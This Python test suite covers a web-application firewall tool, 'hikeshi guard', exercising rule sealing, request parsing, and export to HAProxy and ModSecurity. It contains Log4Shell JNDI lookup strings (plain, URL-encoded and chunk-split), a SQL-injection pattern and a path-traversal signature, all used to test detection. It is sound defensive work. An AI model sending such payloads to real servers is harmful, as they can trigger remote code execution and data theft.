"""hikeshi guard from outside: check, seal, try, rules, and what an export does on a real HAProxy and a real ModSecurity."""
import hashlib, json, os, pathlib, random, re, subprocess, sys, tempfile, unittest

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import edges  # noqa: E402

ROOT = pathlib.Path(__file__).resolve().parents[2]
TOOL = str(ROOT / os.environ.get("HIKESHI_BUILD", "build") / "hikeshi")
DATA = ROOT.parent / "shared" / "data" / "lookups"
HEAD = "hikeshi-rules 1\nversion 14 2021-12-14T09:00:00Z\n"
RULES = HEAD + r"""site shop.example.jp block
site *.example.jp report
site off.example.jp off
allow client 10.0.0.0/8
deny client 203.0.113.7
allow callback ldap.corp.example
deny callback *.evil.example
except arg:template path=/editor/
except * path==/health method=GET
patch ORDER-7 method=POST path=/api/ field=json:/note pattern="(?i)union\s+select"
patch QUOTE field=arg:q pattern="^it's \"x\" %{y}$"
patch HEAD field=header:x-old pattern=aa
signature SIG-1 "\.\./\.\./"
"""
PLACES = ("header", "argument", "form", "json", "multipart")


def guard(*args, stdin=b"", lang="C.UTF-8"):
    return subprocess.run([TOOL, "guard", *args], input=stdin, capture_output=True, timeout=120,
                          env={**os.environ, "LC_ALL": lang, "NO_COLOR": "1"})


class Files(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()
        self.addCleanup(self.folder.cleanup)

    def file(self, text, name="rules"):
        path = pathlib.Path(self.folder.name) / name
        path.write_bytes(text.encode() if isinstance(text, str) else text)
        return str(path)

    def test_check_and_seal(self):
        path = self.file(RULES)
        done = guard("check", path)
        self.assertEqual(done.returncode, 1)
        self.assertTrue(done.stdout.startswith(b"NOT SEALED"), done.stdout)
        os.chmod(path, 0o640)
        self.assertEqual(guard("check", "--seal", path).returncode, 0)
        self.assertEqual(os.stat(path).st_mode & 0o777, 0o640)
        sealed = pathlib.Path(path).read_bytes()
        self.assertEqual(sealed.decode(), RULES + "checksum sha256 %s\n" % hashlib.sha256(RULES.encode()).hexdigest())
        done = guard("check", path)
        self.assertEqual(done.returncode, 0)
        for piece in ("RIGHT", "version 14 of 2021-12-14T09:00:00",
                      "\n  3 sites  2 clients  2 call-backs  2 exceptions  3 patches  1 signature\n"):
            self.assertIn(piece, done.stdout.decode())
        self.assertIn("\n  サイト 3 件  接続元 2 件  コールバック先 2 件  例外 2 件  パッチ 3 件  シグネチャ 1 件\n",
                      guard("check", path, lang="ja_JP.UTF-8").stdout.decode())
        # changed by hand: refused, and sealed anew
        self.file(sealed.replace(b"203.0.113.7", b"203.0.113.8"))
        done = guard("check", path)
        self.assertEqual((done.returncode, done.stdout), (1, b""))
        self.assertIn(b"the checksum is wrong", done.stderr)
        self.assertEqual(guard("check", "--seal", path).returncode, 0)
        self.assertEqual(guard("check", path).returncode, 0)
        self.assertEqual(guard("check", "--seal", "-", stdin=RULES.encode()).stdout, sealed)

    def test_a_wrong_file_is_not_sealed(self):
        path = self.file(HEAD + "site a blok\n")
        done = guard("check", "--seal", path)
        self.assertEqual(done.returncode, 1)
        self.assertEqual(done.stderr.decode(), "hikeshi: %s: line 3: blok: choose one of off, report, block\n" % path)
        self.assertEqual(pathlib.Path(path).read_text(), HEAD + "site a blok\n")
        done = guard("check", path, lang="ja_JP.UTF-8")
        self.assertIn("3 行目", done.stderr.decode())
        self.assertIn("off、report、block", done.stderr.decode())

    def test_wrong_usage(self):
        path = self.file(RULES)
        for args in ((), ("chek", path), ("check",), ("check", path, path), ("check", "--sael", path), ("try",), ("try", "-"),
                     ("try", "--client", "1.2.3", path), ("try", "--format", "xml", path), ("try", "--mode", "off", path),
                     ("try", "--colour", "red", path), ("export", path), ("export", "--as", "nginx", path), ("export", "--as", "haproxy"),
                     ("rules", "x"), ("rules", "--number", "0"), ("rules", "--profile", "nothing"), ("check", "/nothing/there")):
            done = guard(*args)
            self.assertEqual((done.returncode, done.stdout), (2, b""), args)
            self.assertNotEqual(done.stderr, b"", args)
        for args in (("--help",), ("check", "--help"), ("try", "--help"), ("export", "--help"), ("rules", "--help")):
            done = guard(*args)
            self.assertEqual((done.returncode, done.stderr), (0, b""), args)
            self.assertLessEqual(max(len(x) for x in done.stdout.decode().splitlines()), 110)
        self.assertIn("検査", guard("--help", lang="ja_JP.UTF-8").stdout.decode())

    def test_rules_of_a_profile(self):
        profile = pathlib.Path(self.folder.name) / "profile"
        profile.mkdir()
        (profile / "patterns.tsv").write_text('A-1\t^say "\\w+\\\\"$\tsomething said\t何か\n')
        done = guard("rules", "--profile", str(profile) + "/", "--number", "7")
        self.assertEqual((done.returncode, done.stderr), (0, b""))
        self.assertIn('# something said\nsignature A-1 "(?m-s)^say \\"\\w+\\\\\\\\\\"$"\n', done.stdout.decode())
        path = self.file(done.stdout)
        self.assertEqual(guard("check", path).returncode, 0)
        body = b'x\nsay "abc\\"\ny'
        request = b"POST / HTTP/1.1\nHost: a\nContent-Type: text/plain\nContent-Length: %d\n\n%s" % (len(body), body)
        self.assertEqual(self.tried(path, request)[0]["rule"], "A-1")
        (profile / "patterns.tsv").write_text("A\t(a)\\1\tx\tx\n")
        self.assertEqual(guard("rules", "--profile", str(profile) + "/").returncode, 2)
        self.assertEqual(guard("rules", "--profile", "log4shell").returncode, 0)

    # --- try

    def tried(self, path, request, *args):
        done = guard("try", "--format", "jsonl", *args, path, stdin=request)
        self.assertEqual(done.stderr, b"")
        return [json.loads(x) for x in done.stdout.splitlines()]

    def test_several_types_are_one_list(self):
        """As in the module: readers take the first or the last one, so it is told, and the lookup is found."""
        path = self.file(RULES)
        for body, want in ((b"a=b", "limit"), (b"a=%24%7Bjndi:ldap://x/a%7D", "lookup")):
            request = (b"POST / HTTP/1.1\nHost: a\nContent-Type: application/x-www-form-urlencoded\ncontent-type: text/plain\n"
                       b"Content-Length: %d\n\n%s" % (len(body), body))
            self.assertEqual(self.tried(path, request)[0]["why"], want)

    def test_pipelined_requests(self):
        path = self.file(RULES)
        note = b'{"note":"a UNION  SELECT b"}'
        request = (b"GET /a?q=%24%7bjndi:ldap://x.example/a} HTTP/1.1\nHost: shop.example.jp\n\n"
                   b"GET /editor/x?template=${jndi:ldap://x/a} HTTP/1.1\r\nHost: a.example.jp:80\r\n\r\n"
                   b"GET /editor/../x?template=${jndi:ldap://x/a} HTTP/1.1\r\nHost: a.example.jp:80\r\n\r\n"
                   b"GET /?a=${jndi:ldap://x/a} HTTP/1.1\r\nHost: off.example.jp\r\n\r\n"
                   b"POST /api/z HTTP/1.1\r\nHost: shop.example.jp\r\nContent-Type: application/json\r\n"
                   b"Content-Length: " + str(len(note)).encode() + b"\r\n\r\n" + note + b"\r\n"
                   b"POST / HTTP/1.1\nHost: q\nTransfer-Encoding: chunked\nContent-Type: text/plain\n\n"
                   b"5;x=y\n${jnd\nf\ni:ldap://x/a} .\n0\nTrailer: b\n\n")
        got = self.tried(path, request)
        self.assertEqual([(x["action"], x["mode"], x["why"], x["field"], x["rule"], x["resolves_to"]) for x in got], [
            ("blocked", "block", "lookup", "arg:q", None, "ldap://x.example/a"),
            ("passed", "report", None, None, None, None),
            ("reported", "report", "lookup", "arg:template", None, "ldap://x/a"),
            ("passed", "off", "lookup", "arg:a", None, "ldap://x/a"),
            ("blocked", "block", "patch", "json:/note", "ORDER-7", None),
            ("blocked", "block", "lookup", "body", None, "ldap://x/a")])
        self.assertEqual([x["request"] for x in got], list(range(1, 7)))
        text = guard("try", path, stdin=request)
        self.assertEqual(text.returncode, 1)
        self.assertEqual(re.findall(r"^[A-Z]+", text.stdout.decode(), re.M), ["BLOCKED", "PASSES", "REPORTED", "OFF", "BLOCKED", "BLOCKED"])
        self.assertIn("遮断", guard("try", path, stdin=request, lang="ja_JP.UTF-8").stdout.decode())
        self.assertIn(b"\x1b[1;31mBLOCKED", guard("try", "--colour", "always", path, stdin=request).stdout)

    def test_clients_modes_and_exit_codes(self):
        path = self.file(RULES)
        attack = b"GET /?a=${jndi:ldap://x/a} HTTP/1.0\n\n"
        self.assertEqual(self.tried(path, attack, "--client", "203.0.113.7")[0]["why"], "client")
        self.assertEqual(self.tried(path, attack, "--client", "::ffff:10.1.2.3")[0]["action"], "passed")
        self.assertEqual(self.tried(path, attack, "--mode", "report")[0]["action"], "reported")
        self.assertEqual(self.tried(path, b"GET /?a=${jndi:ldap://b.evil.example/a} HTTP/1.0\n\n")[0]["why"], "callback")
        for request, code in ((attack, 1), (b"GET / HTTP/1.0\n\n", 0), (b"", 2), (b"GET / HTTP/1.0\n\nx", 2),
                              (b"GET /health?${jndi:ldap://x/a} HTTP/1.0\n\n", 0)):
            self.assertEqual(guard("try", path, stdin=request).returncode, code, request)
        self.assertEqual(guard("try", self.file(HEAD + "nonsense\n"), stdin=attack).returncode, 2)

    def test_how_much_is_read(self):
        path, request = self.file(RULES), b"GET / HTTP/1.0\n\n"
        for more in (-1, 0, 1):
            done = guard("try", path, stdin=b"\n" * ((64 << 20) - len(request) + more) + request)
            self.assertEqual(done.returncode, 2 if more > 0 else 0, done.stderr)

    def test_what_is_no_request(self):
        path = self.file(RULES)
        for request, offset, words in (
                (b"GET /\n\n", 4, "the request line ends with"),
                (b"GET  HTTP/1.1\nHost: a\n\n", 4, "the target is neither"),
                (b"G@T / HTTP/1.1\nHost: a\n\n", 0, "no request line"),
                (b"GET / HTTP/2\nHost: a\n\n", 6, "the request line ends with"),
                (b"CONNECT a:443 HTTP/1.1\nHost: a\n\n", 8, "the target is neither"),
                (b"GET / HTTP/1.1\nHost: a\nHost: b\n\n", 23, "a second Host"),
                (b"GET / HTTP/1.1\nA: b\n\n", 0, "HTTP/1.1 without a Host"),
                (b"GET / HTTP/1.1\nHost: a\n b\n\n", 23, "a folded line"),
                (b"GET / HTTP/1.1\nHost : a\n\n", 15, "no field line"),
                (b"GET / HTTP/1.1\nHost: a\rb\n\n", 22, "a control byte"),
                (b"GET / HTTP/1.1\nHost: a", 22, "the request ends within a line"),
                (b"POST / HTTP/1.1\nHost: a\nContent-Length: 5\n\nabc", 46, "the body ends 2 bytes early"),
                (b"POST / HTTP/1.1\nHost: a\nContent-Length: 5\nContent-Length: 5\n\nabcde", 42, "a second Content-Length"),
                (b"POST / HTTP/1.1\nHost: a\nContent-Length: -5\n\n", 24, "Content-Length is no number"),
                (b"POST / HTTP/1.1\nHost: a\nContent-Length: 5\nTransfer-Encoding: chunked\n\n0\n\n", 0, "both Content-Length and"),
                (b"POST / HTTP/1.1\nHost: a\nTransfer-Encoding: gzip\n\n", 24, "Transfer-Encoding is chunked"),
                (b"POST / HTTP/1.1\nHost: a\nTransfer-Encoding: chunked\n\nx\n", 52, "no length of a chunk"),
                (b"POST / HTTP/1.1\nHost: a\nTransfer-Encoding: chunked\n\n1\nab\n", 55, "the chunk is longer"),
                (b"GET / HTTP/1.0\n\nGET / HTTP/9\n\n", 22, "the request line ends with")):
            done = guard("try", path, stdin=request)
            self.assertEqual(done.returncode, 2, request)
            self.assertTrue(done.stderr.decode().startswith("hikeshi: standard input: byte %d: %s" % (offset, words)),
                            (request, done.stderr))
        self.assertIn("バイト", guard("try", path, stdin=b"GET /\n\n", lang="ja_JP.UTF-8").stderr.decode())

    # --- export

    def export(self, kind, text=RULES):
        done = guard("export", "--as", kind, self.file(text))
        self.assertEqual(done.returncode, 0, done.stderr)
        return done

    def test_what_is_left_out_is_told(self):
        for kind, lines in (("modsecurity", {8: "allow callback"}), ("haproxy", {8: "allow callback", 10: "except"})):
            done = self.export(kind)
            told = re.findall(r"^# not exported: line (\d+), ([^:]+):", done.stdout.decode(), re.M)
            self.assertEqual({int(n): what for n, what in told}, lines)
            self.assertTrue(done.stderr.decode().startswith("hikeshi: %d rule" % len(lines)), done.stderr)
        self.assertEqual(self.export("haproxy", HEAD).stderr, b"")


class Exported(unittest.TestCase):
    """One edge of each kind, with the rules above and with none."""

    def edge(self, kind, text):
        why = edges.missing(kind)
        if why:
            self.skipTest(why)
        done = guard("export", "--as", "haproxy" if kind is edges.Haproxy else "modsecurity", "-", stdin=text.encode())
        self.assertEqual(done.returncode, 0, done.stderr)
        return kind(done.stdout.decode())

    def common(self, e):
        ask = e.ask
        attack = "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"
        self.assertEqual(ask("GET", "/?q=a", {}), 200)
        self.assertEqual(ask("GET", attack, {}), 403)
        self.assertEqual(ask("GET", attack, {}, host="SHOP.example.jp.:80"), 403)
        self.assertEqual(ask("GET", attack, {}, host="a.example.jp"), 200)
        self.assertEqual(ask("GET", attack, {}, host="off.example.jp"), 200)
        self.assertEqual(ask("GET", "/health" + attack[1:], {}), 200)
        self.assertEqual(ask("GET", "/healthy" + attack[1:], {}), 403)
        self.assertEqual(ask("GET", "/a?x=..%2F..%2F", {}), 403)
        self.assertEqual(ask("GET", "/a?x=..%2F..", {}), 200)
        self.assertEqual(ask("GET", "/", {"X-Old": "baab"}), 403)
        self.assertEqual(ask("GET", "/", {"X-New": "baab"}), 200)
        self.assertEqual(ask("GET", "/?q=it's%20%22x%22%20%25%7By%7D", {}), 403)
        self.assertEqual(ask("GET", "/?q=it's%20%22x%22%20%25%7By%7D.", {}), 200)
        kind = {"Content-Type": "application/json"}
        self.assertEqual(ask("POST", "/api/a", kind, b'{"note": "1 Union  select 2"}'), 403)
        self.assertEqual(ask("POST", "/api/a", kind, b'{"other": "1 Union  select 2"}'), 200)
        self.assertEqual(ask("PUT", "/api/a", kind, b'{"note": "1 Union  select 2"}'), 200)
        self.assertEqual(ask("POST", "/else", kind, b'{"note": "1 Union  select 2"}'), 200)

    def payloads(self, e, least_encoded):
        self.assertTrue(DATA.is_dir())
        rows = [x.split(b"\t", 4) for x in (DATA / "collected.tsv").read_bytes().split(b"\n") if x]
        sets = {"collected": ([r[4] for r in rows if r[0] == b"A"], 0.98)}
        for file in sorted((DATA / "encoded").iterdir()):
            lines = [x for x in file.read_bytes().split(b"\n") if x]
            least = 0.7 if "_b64" in file.name else least_encoded
            sets[file.name] = (random.Random(1).sample(lines, 25), least)
        for name, (lines, least) in sets.items():
            for place in PLACES:
                blocked = sum(e.ask(*edges.placed(place, x)) == 403 for x in lines)
                self.assertGreaterEqual(blocked / len(lines), least, (name, place))
        harmless = [x for f in ("benign-tricky.log", "not_jndi.txt") for x in (DATA / f).read_bytes().split(b"\n") if x and b"$${jndi:" not in x]
        for place in PLACES:
            self.assertEqual([x for x in harmless if e.ask(*edges.placed(place, x)) != 200], [], place)

    def test_haproxy(self):
        with self.edge(edges.Haproxy, RULES) as e:
            self.common(e)
        with self.edge(edges.Haproxy, HEAD + "deny client 127.0.0.0/8\nallow client 10.0.0.0/8\n") as e:
            self.assertEqual(e.ask("GET", "/", {}), 403)
        with self.edge(edges.Haproxy, HEAD + "deny client 127.0.0.0/8\nallow client 127.0.0.1\n") as e:
            self.assertEqual(e.ask("GET", "/?q=${jndi:ldap://x/a}", {}), 200)

    def test_modsecurity(self):
        with self.edge(edges.ModSecurity, RULES) as e:
            self.common(e)
            self.assertEqual(e.ask("GET", "/editor/x?template=$%7Bjndi:ldap://x/a%7D", {}), 200)
            self.assertEqual(e.ask("GET", "/editor/x?other=$%7Bjndi:ldap://x/a%7D", {}), 403)
            self.assertEqual(e.ask("GET", "/x?template=$%7Bjndi:ldap://x/a%7D", {}), 403)
        with self.edge(edges.ModSecurity, HEAD + "deny client 127.0.0.0/8\nallow client 10.0.0.0/8\n") as e:
            self.assertEqual(e.ask("GET", "/", {}), 403)
        with self.edge(edges.ModSecurity, HEAD + "deny client 127.0.0.0/8\nallow client 127.0.0.1\n") as e:
            self.assertEqual(e.ask("GET", "/?q=$%7Bjndi:ldap://x/a%7D", {}), 200)

    @unittest.skipUnless(DATA.is_dir(), "the labelled messages are not here")
    def test_haproxy_on_collected_payloads(self):
        with self.edge(edges.Haproxy, HEAD + "site * block\n") as e:
            self.payloads(e, 0.92)

    @unittest.skipUnless(DATA.is_dir(), "the labelled messages are not here")
    def test_modsecurity_on_collected_payloads(self):
        with self.edge(edges.ModSecurity, HEAD + "site * block\n") as e:
            self.payloads(e, 0.92)


if __name__ == "__main__":
    unittest.main()
